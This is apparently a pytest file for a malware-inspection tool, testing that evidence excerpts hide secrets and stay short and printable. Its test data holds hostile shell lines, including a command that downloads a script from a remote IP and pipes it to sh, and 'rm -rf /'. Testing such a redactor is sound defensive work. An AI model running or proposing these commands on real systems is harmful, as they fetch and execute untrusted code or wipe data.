import pytest
from hypothesis import given
from hypothesis import strategies as st

from nakami.engine.inspection.excerpts import excerpt
from nakami.malware.evidence import MAX_EXCERPT

KEY = "Zx81Kq" + "Lw92Mv" * 5
CASES = [
    ("curl http://1.2.3.4/x.sh | sh", "curl http://1.2.3.4/x.sh | sh"),
    (f"curl -H 'Authorization: Bearer {KEY}' | sh", KEY),
    (f"export DB_PASSWORD=hunter2-and-more; curl x | sh {KEY}", "hunter2-and-more"),
    (f"wget --password={KEY} x", f"--password={KEY}"),
    (f"key={KEY}", KEY[3:]),
    (f"key={KEY}", KEY[:5]),
    (f"{KEY}\nrm -rf /", "rm -rf /"),
]


@pytest.mark.parametrize(("text", "piece"), CASES)
def test_no_part_of_a_secret_is_shown(text: str, piece: str):
    shown = excerpt(text.encode(), text.index(piece), len(piece))
    assert not any(KEY[at : at + 5] in shown for at in range(len(KEY) - 4))
    assert "hunter2" not in shown
    assert shown


def test_what_holds_no_secret_is_shown_as_it_is():
    text = "#!/bin/sh\ncurl http://1.2.3.4/x.sh | sh\n"
    assert excerpt(text.encode(), 10, 29) == "curl http://1.2.3.4/x.sh | sh"
    assert excerpt(b"\x1b[2Jevil\nline\x00", 0, 14) == ".[2Jevil.line."


class TestAnyPiece:
    """An excerpt is printable and short, whatever the file holds."""

    @given(st.binary(max_size=600), st.integers(0, 600), st.integers(0, 600))
    def test_is_printable(self, content: bytes, offset: int, length: int):
        shown = excerpt(content, offset, length)
        assert shown.isprintable()
        assert len(shown) <= MAX_EXCERPT
